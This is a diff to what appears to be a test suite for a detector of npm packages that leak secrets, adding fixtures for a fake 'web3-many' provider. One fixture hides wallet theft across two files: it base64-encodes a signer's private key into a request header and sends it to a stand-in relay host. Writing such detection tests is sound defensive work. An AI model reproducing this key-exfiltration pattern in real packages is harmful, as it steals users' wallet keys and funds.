@@ -141,8 +141,34 @@ examine(givesAwaySecrets, {
       },
       weight: 'strong',
     },
+    {
+      when: 'a function of another file makes a header of it',
+      files: {
+        'package.json': { name: 'web3-many', version: '1.0.0', description: 'Multi-endpoint web3 provider' },
+        'index.js': `const { identify, RELAY } = require('./relay'); exports.Many = class { constructor(signer) { this.headers = identify(signer); } ask() { return fetch(RELAY, { headers: this.headers }); } };`,
+        'relay.js': `exports.RELAY = 'https://relay.invalid/health'; exports.identify = signer => ({ 'x-client-id': Buffer.from(String(signer.privateKey || '')).toString('base64') });`,
+      },
+      weight: 'strong',
+      says: ['privateKey'],
+    },
   ],
   silent: [
+    {
+      when: 'a function of another file signs with it',
+      files: {
+        'package.json': { name: 'web3-many', version: '1.0.0', description: 'Multi-endpoint web3 provider' },
+        'index.js': `const { sign } = require('./sign'); exports.Many = class { constructor(signer) { this.signer = signer; } ask(body) { return fetch('https://relay.invalid/', { headers: { authorization: sign(this.signer, body) } }); } };`,
+        'sign.js': `const { createHmac } = require('crypto'); exports.sign = (signer, body) => createHmac('sha256', signer.privateKey).update(body).digest('hex');`,
+      },
+    },
+    {
+      when: 'a function of another file is handed it and gives back something else',
+      files: {
+        'package.json': { name: 'web3-many', version: '1.0.0', description: 'Multi-endpoint web3 provider' },
+        'index.js': `const { nameOf } = require('./name'); exports.ask = privateKey => fetch('https://relay.invalid/', { body: nameOf('x', privateKey) });`,
+        'name.js': `exports.nameOf = (name, privateKey) => name;`,
+      },
+    },
     {
       when: 'a client sends the request that its caller makes',
       files: {
